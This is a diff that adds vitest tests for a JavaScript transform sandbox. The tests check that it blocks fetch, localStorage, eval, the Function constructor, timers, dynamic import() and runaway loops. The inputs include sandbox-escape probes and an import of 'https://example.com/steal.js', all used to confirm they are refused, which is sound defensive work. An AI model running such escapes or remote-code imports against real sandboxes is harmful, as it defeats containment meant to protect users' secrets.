@@ -0,0 +1,107 @@
+import { describe, it, expect, vi } from 'vitest';
+import vm from 'node:vm';
+
+import { checkTransformOutput, checkTransformSource, lockdownRealm } from '../utils/sandboxPolicy.js';
+import { runSandboxedTransform } from '../utils/transformSandbox.js';
+import { TASK_TIMEOUT } from '../utils/workerPool.js';
+
+const createRealm = () => {
+  const context = vm.createContext({});
+  const scope = vm.runInContext('globalThis', context);
+  scope.fetch = () => 'network';
+  scope.localStorage = { getItem: () => 'secret-api-key' };
+  scope.setTimeout = () => 'timer';
+  return { context, scope };
+};
+
+describe('sandboxPolicy', () => {
+  it('blocks network, storage and code evaluation after lockdown', () => {
+    const { context, scope } = createRealm();
+    const onViolation = vi.fn();
+    lockdownRealm(scope, onViolation);
+
+    expect(() => vm.runInContext('fetch("https://example.com")', context)).toThrow(/not available in the sandbox/);
+    expect(() => vm.runInContext('localStorage.getItem("key")', context)).toThrow(/localStorage/);
+    expect(() => vm.runInContext('eval("1 + 1")', context)).toThrow(/eval/);
+    expect(() => vm.runInContext('(() => {}).constructor("return globalThis")()', context)).toThrow(
+      /Function constructor/
+    );
+    expect(() => vm.runInContext('(async () => {}).constructor("return 1")', context)).toThrow();
+    expect(() => vm.runInContext('setTimeout("fetch(1)")', context)).toThrow(/setTimeout/);
+    // node:vm may touch a global accessor more than once per lookup; compare distinct targets.
+    const targets = new Set(onViolation.mock.calls.map(([violation]) => violation.target));
+    expect([...targets]).toEqual(['fetch', 'localStorage', 'eval', 'Function constructor', 'setTimeout']);
+    // Plain computation keeps working.
+    expect(vm.runInContext('[1, 2, 3].map(value => value * 2).join(",")', context)).toBe('2,4,6');
+  });
+
+  it('refuses transform source that loads modules', () => {
+    expect(checkTransformSource("return import('https://example.com/x.js').then(() => data);")).toMatchObject({
+      type: 'blocked_import',
+    });
+    expect(checkTransformSource('const url = import.meta.url; return data;')).toMatchObject({ type: 'blocked_import' });
+    expect(checkTransformSource("const note = 'import() is refused'; return data.map(row => row.important);")).toBeNull();
+  });
+
+  it('flags outputs over the row or size limits', () => {
+    const rows = Array.from({ length: 10 }, (_, index) => ({ id: index, text: 'x'.repeat(100) }));
+    expect(checkTransformOutput(rows, { maxRows: 20, maxBytes: 10000 })).toBeNull();
+    expect(checkTransformOutput(rows, { maxRows: 5 })).toMatchObject({ type: 'output_rows' });
+    expect(checkTransformOutput(rows, { maxBytes: 500 })).toMatchObject({ type: 'output_bytes' });
+  });
+});
+
+describe('runSandboxedTransform', () => {
+  it('refuses to run without worker support', async () => {
+    await expect(runSandboxedTransform([], 'return data;')).rejects.toThrow(/Web Worker/);
+  });
+
+  it('stops a runaway transform and reports a time-limit violation', async () => {
+    vi.useFakeTimers();
+    const worker = { addEventListener: vi.fn(), postMessage: vi.fn(), terminate: vi.fn() };
+    const onViolation = vi.fn();
+    const pending = runSandboxedTransform([{ a: 1 }], 'while (true) {}', {
+      timeoutMs: 1000,
+      onViolation,
+      createWorker: () => worker,
+    });
+    const assertion = expect(pending).rejects.toMatchObject({ code: TASK_TIMEOUT });
+    await vi.advanceTimersByTimeAsync(1000);
+    await assertion;
+    expect(worker.terminate).toHaveBeenCalled();
+    expect(onViolation).toHaveBeenCalledWith(expect.objectContaining({ type: 'time_limit' }));
+    vi.useRealTimers();
+  });
+
+  it('refuses import() inside the sandbox worker before any code runs', async () => {
+    // Load the real worker script against a stand-in `self` and wire it to the host API.
+    const hostListeners = [];
+    let workerListener = null;
+    vi.stubGlobal('self', {
+      postMessage: message => hostListeners.forEach(listener => listener({ data: message })),
+      addEventListener: (type, listener) => {
+        if (type === 'message') workerListener = listener;
+      },
+    });
+    vi.resetModules();
+    await import('../utils/transformSandboxWorker.js');
+    const worker = {
+      addEventListener: (type, listener) => {
+        if (type === 'message') hostListeners.push(listener);
+      },
+      postMessage: message => workerListener({ data: message }),
+      terminate: vi.fn(),
+    };
+    const onViolation = vi.fn();
+
+    await expect(
+      runSandboxedTransform([{ a: 1 }], "return import('https://example.com/steal.js').then(() => data);", {
+        onViolation,
+        createWorker: () => worker,
+      })
+    ).rejects.toThrow(/import\(\)/);
+    expect(onViolation).toHaveBeenCalledWith(expect.objectContaining({ type: 'blocked_import' }));
+    expect(worker.terminate).toHaveBeenCalled();
+    vi.unstubAllGlobals();
+  });
+});